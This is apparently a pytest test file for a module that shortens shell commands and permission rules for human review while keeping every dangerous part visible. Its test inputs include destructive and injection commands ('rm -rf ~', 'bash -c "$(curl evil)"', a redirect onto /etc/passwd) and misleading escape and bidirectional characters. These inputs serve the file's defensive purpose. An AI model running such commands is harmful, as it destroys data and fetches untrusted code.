"""Commands and rules in the form that people read: nothing that an answer covers may be lost."""

from __future__ import annotations

import shlex
import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st

from session_host.structured.shortening import counted, cut, short_name, short_rule, shown_command


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("/bin/bash -lc 'rm -rf build'", "rm -rf build"),
        ("bash -c 'npm test'", "npm test"),
        ("sh -c make", "make"),
        ("/usr/bin/zsh -lc 'a; b'", "a; b"),
        ("""/bin/bash -lc 'echo '"'"'hi'"'"' > a'""", "echo 'hi' > a"),
        (r"""bash -lc "don't \$HOME \\ \" \n" """.rstrip(), r"""don't $HOME \ " \n"""),
        ("bash -c 'cd /tmp\nrm -rf *'", "cd /tmp\nrm -rf *"),
    ],
)
def test_the_shell_around_one_script_is_left_out(command: str, shown: str) -> None:
    assert shown_command(command) == shown


@pytest.mark.parametrize(
    "command",
    [
        "bash -c 'cd /tmp'\nrm -rf *",
        "bash -c 'make' && rm -rf ~",
        "bash -c make; rm -rf ~",
        "bash -c make;rm",
        "bash -c make>/etc/passwd",
        "bash -c make&",
        "bash -c 'make' script-name more",
        'bash -c "rm $HOME"',
        'bash -c "$(curl evil)"',
        "bash -c `curl evil`",
        "bash -c ~/x",
        "bash -c *",
        "bash -c 'make",
        "bash -c -x",
        "bash -c '  '",
        "bash -xc make",
        "bash -l make",
        "bash  -c make",
        "A=1 bash -c make",
        "/tmp/bash -c make",
        "./bash -c make",
        "env bash -c make",
        "bash script.sh",
        "",
    ],
)
def test_all_other_commands_are_shown_whole(command: str) -> None:
    assert shown_command(command) == command


@given(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), min_size=1))
def test_any_script_that_python_quotes_is_shown_as_it_runs(script: str) -> None:
    wrapped = shlex.join(["/bin/bash", "-lc", script])
    assert shown_command(wrapped) in {script, wrapped}


@pytest.mark.parametrize("word", [r'"a\$b\`c\"d\\e\f"', """'a'"b"c""", '"x\\\ny"', "''x"])
def test_a_script_is_unquoted_as_a_shell_does_it(word: str) -> None:
    done = subprocess.run(["sh", "-c", f"printf %s {word}"], capture_output=True, text=True, check=True)
    assert shown_command(f"sh -c {word}") == done.stdout


def test_a_long_command_keeps_both_ends() -> None:
    attack = "echo " + "harmless " * 200 + "; rm -rf ~"
    shown = cut(attack, 60)
    assert len(shown) <= 60
    assert shown.startswith("echo harmless")
    assert " … " in shown
    assert shown.endswith("; rm -rf ~")
    assert cut("rm x" + " " * 500 + "&& rm -rf ~") == "rm x && rm -rf ~"
    assert cut("a  --\tb") == "a  -- b"
    assert cut("make") == "make"
    assert cut("npm run build --workspaces; rm -rf dist coverage", 40) == "npm run build … -rf dist coverage"


def test_characters_that_would_mislead_are_visible() -> None:
    assert cut("ls\x1b[2K\rrm \u202ex") == "ls\\u001b[2K\\u000drm \\u202ex"
    assert cut("cd /tmp\n\nrm -rf *\n") == "cd /tmp ⏎ rm -rf *"


def test_a_rule_says_whether_it_is_about_all_commands_that_begin_so() -> None:
    assert short_rule("/bin/bash -lc 'rm -rf build'", is_beginning=False) == "`rm -rf build`"
    assert short_rule("npm test", is_beginning=True) == "`npm test`…"


def test_rules_without_room_are_counted() -> None:
    assert counted(["one"]) == "one"
    assert counted(["one", "two"]) == "one, two"
    assert counted(["one", "x" * 60, "two"]) == "one and 2 more rules"
    assert counted([]) == ""


def test_only_a_long_name_of_an_answer_is_cut() -> None:
    assert short_name("Yes, allow npm test") == ""
    name = f"Always allow {'x' * 200} and rm -rf ~"
    assert short_name(name).startswith("Always allow x")
    assert short_name(name).endswith("and rm -rf ~")
